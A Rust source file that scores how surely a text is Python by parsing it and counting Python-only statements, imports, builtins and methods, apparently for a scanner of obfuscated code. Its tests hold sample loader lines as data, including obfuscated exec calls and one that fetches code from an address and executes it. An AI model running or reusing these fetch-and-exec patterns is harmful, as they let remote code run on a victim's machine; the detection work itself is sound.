//! Whether a text is a program of Python, by reading it as one.

use super::ast::{Argument, Block, Expr, ExprKind, Piece, Stmt, StmtKind};
use super::value::Value;

/// How sure that is. Other languages, settings and lists of values read as Python too: what they
/// have in common with it counts nothing.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Certainty {
    /// It cannot be read, or nothing in it is Python's alone.
    No,
    /// Little that is Python's alone.
    Likely,
    /// As Python and nothing else is written.
    Sure,
}

/// Functions of Python that no other language calls so.
const OWN: &[&str] = &[
    "exec",
    "compile",
    "__import__",
    "bytes",
    "bytearray",
    "chr",
    "ord",
    "getattr",
    "setattr",
    "globals",
    "locals",
    "vars",
    "enumerate",
    "isinstance",
    "range",
    "zip",
    "len",
    "str",
    "list",
    "tuple",
    "dict",
    "sorted",
    "sum",
    "memoryview",
];

/// Methods of Python's values.
const METHODS: &[&str] = &[
    "fromhex",
    "b64decode",
    "decompress",
    "unhexlify",
    "from_bytes",
    "to_bytes",
    "maketrans",
    "urlopen",
    "urlretrieve",
    "check_output",
    "Popen",
    "decode",
    "encode",
];

/// Evidence that makes it likely, and sure.
const LIKELY: u32 = 2;
const SURE: u32 = 4;

/// Parts of a program that are looked at.
const PARTS_MAX: u32 = 20_000;

/// Whether `text`, all of a file, is a program of Python 3 or 2.
pub fn is_python(text: &str) -> Certainty {
    let Ok(block) = super::second::either(text, true) else { return Certainty::No };
    let mut evidence = Evidence::default();
    evidence.block(&block);
    match evidence.score() {
        SURE.. => Certainty::Sure,
        LIKELY.. => Certainty::Likely,
        _ => Certainty::No,
    }
}

#[derive(Default)]
struct Evidence {
    parts: u32,
    /// Statements that only Python writes so.
    statements: u32,
    /// Imports of modules that Python has.
    imports: u32,
    /// Functions and methods of its own, each once.
    names: Vec<&'static str>,
    /// Forms of values that are its own.
    forms: u32,
}

impl Evidence {
    fn score(&self) -> u32 {
        2 * self.statements.min(3)
            + 2 * self.imports.min(3)
            + self.names.len().min(6) as u32
            + self.forms.min(3)
    }

    fn block(&mut self, block: &Block) {
        for stmt in block {
            self.parts += 1;
            if self.parts > PARTS_MAX {
                return;
            }
            self.statement(stmt);
        }
    }

    fn statement(&mut self, stmt: &Stmt) {
        match &stmt.kind {
            StmtKind::Expr(value) => self.value(value),
            StmtKind::Assign(targets, value) => {
                self.forms += u32::from(matches!(value.kind, ExprKind::Lambda(_)));
                for it in targets {
                    self.value(it);
                }
                self.value(value);
            }
            StmtKind::Augment(_, _, value) => self.value(value),
            StmtKind::Return(Some(it)) | StmtKind::Annotate(_, Some(it)) => self.value(it),
            StmtKind::If(arms, otherwise) => {
                self.statements += 1;
                for (condition, body) in arms {
                    self.value(condition);
                    self.block(body);
                }
                self.block(otherwise);
            }
            StmtKind::While(condition, body, otherwise) => {
                self.statements += 1;
                self.value(condition);
                self.block(body);
                self.block(otherwise);
            }
            StmtKind::For { source, body, otherwise, .. } => {
                self.statements += 1;
                self.value(source);
                self.block(body);
                self.block(otherwise);
            }
            StmtKind::Try { body, handlers, otherwise, finally } => {
                self.statements += 1;
                self.block(body);
                for it in handlers {
                    self.block(&it.body);
                }
                self.block(otherwise);
                self.block(finally);
            }
            StmtKind::With(items, body) => {
                self.statements += 1;
                for (value, _) in items {
                    self.value(value);
                }
                self.block(body);
            }
            StmtKind::Function(code, _) => {
                self.statements += 1;
                self.block(&code.body);
            }
            StmtKind::Class { body, .. } => {
                self.statements += 1;
                self.block(body);
            }
            StmtKind::Import(names) => {
                let known = |name: &str| super::modules::is_known(name);
                self.imports += names.iter().filter(|(name, _)| known(name)).count() as u32;
            }
            StmtKind::From(module, _) => {
                self.statements += 1;
                self.imports += u32::from(super::modules::is_known(module));
            }
            StmtKind::Match(value, cases) => {
                self.statements += 1;
                self.value(value);
                for it in cases {
                    self.block(&it.body);
                }
            }
            _ => {}
        }
    }

    fn name(&mut self, name: &str, known: &'static [&'static str]) {
        let known = known.iter().find(|it| **it == name).copied();
        if let Some(name) = known.filter(|it| !self.names.contains(it)) {
            self.names.push(name);
        }
    }

    fn value(&mut self, value: &Expr) {
        self.parts += 1;
        if self.parts > PARTS_MAX {
            return;
        }
        match &value.kind {
            ExprKind::Constant(Value::Bytes(_)) => self.forms += 1,
            ExprKind::Name(name)
                if matches!(&**name, "__import__" | "__builtins__" | "__name__") =>
            {
                self.forms += 2;
            }
            ExprKind::Format(pieces) => {
                self.forms += 1;
                for piece in pieces {
                    if let Piece::Value { value, .. } = piece {
                        self.value(value);
                    }
                }
            }
            ExprKind::Attribute(of, _) | ExprKind::Unary(_, of) | ExprKind::Starred(of) => {
                self.value(of);
            }
            ExprKind::Index(of, at) => {
                self.value(of);
                if let ExprKind::Slice(parts) = &at.kind {
                    self.forms += u32::from(parts[2].is_some());
                }
                self.value(at);
            }
            ExprKind::Call(callee, arguments) => {
                match &callee.kind {
                    ExprKind::Name(name) => self.name(name, OWN),
                    ExprKind::Attribute(_, name) => self.name(name, METHODS),
                    _ => {}
                }
                self.value(callee);
                for argument in arguments {
                    match argument {
                        Argument::Plain(value) => self.value(value),
                        Argument::Named(_, value)
                        | Argument::Many(value)
                        | Argument::ManyNamed(value) => {
                            self.forms += 1;
                            self.value(value);
                        }
                    }
                }
            }
            ExprKind::Binary(_, one, other) | ExprKind::Logic(_, one, other) => {
                self.value(one);
                self.value(other);
            }
            ExprKind::Compare(first, others) => {
                self.value(first);
                for (_, it) in others {
                    self.value(it);
                }
            }
            ExprKind::Choice(parts) => {
                self.forms += 1;
                for it in parts.iter() {
                    self.value(it);
                }
            }
            // What is called by no name of its own.
            ExprKind::Lambda(code) => {
                self.forms += 2;
                self.block(&code.body);
            }
            ExprKind::Tuple(items) | ExprKind::List(items) | ExprKind::Set(items) => {
                for it in items {
                    self.value(it);
                }
            }
            ExprKind::Dict(pairs) => {
                for (_, it) in pairs {
                    self.value(it);
                }
            }
            ExprKind::Comprehension(inner) => {
                self.forms += 2;
                self.value(&inner.element);
                for it in &inner.clauses {
                    self.value(&it.source);
                }
            }
            ExprKind::Walrus(_, inner) | ExprKind::Await(inner) | ExprKind::YieldFrom(inner) => {
                self.value(inner);
            }
            _ => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use super::{Certainty, is_python};

    #[test]
    fn programs_are_told_from_what_reads_like_them() {
        for text in [
            "import os\nos.system('id')\n",
            "exec(bytes.fromhex('7072696e74283129').decode())",
            "exec(''.join(chr(c ^ 5) for c in [1, 2, 3]))",
            "import binascii\nx = binascii.unhexlify('61')\n",
            "_ = lambda __: __import__('zlib').decompress(__)\n",
            "eval(compile(__import__('base64').b64decode('YQ=='), '<s>', 'exec'))",
            "import urllib2\nexec urllib2.urlopen('http://192.0.2.1/').read()\n",
        ] {
            assert_ne!(is_python(text), Certainty::No, "{text}");
        }
        for text in [
            "",
            "key = value\n",
            "[1, 2, {'a': None}]",
            "eval(unescape('%61'))",
            "import taxes",
            "Execute(chr(104) & chr(105))",
            "fetch('http://192.0.2.1/').then(f)",
            "print(\"hello\")",
            "a(b);c(d);",
            "the quick brown fox",
        ] {
            assert_eq!(is_python(text), Certainty::No, "{text}");
        }
    }
}
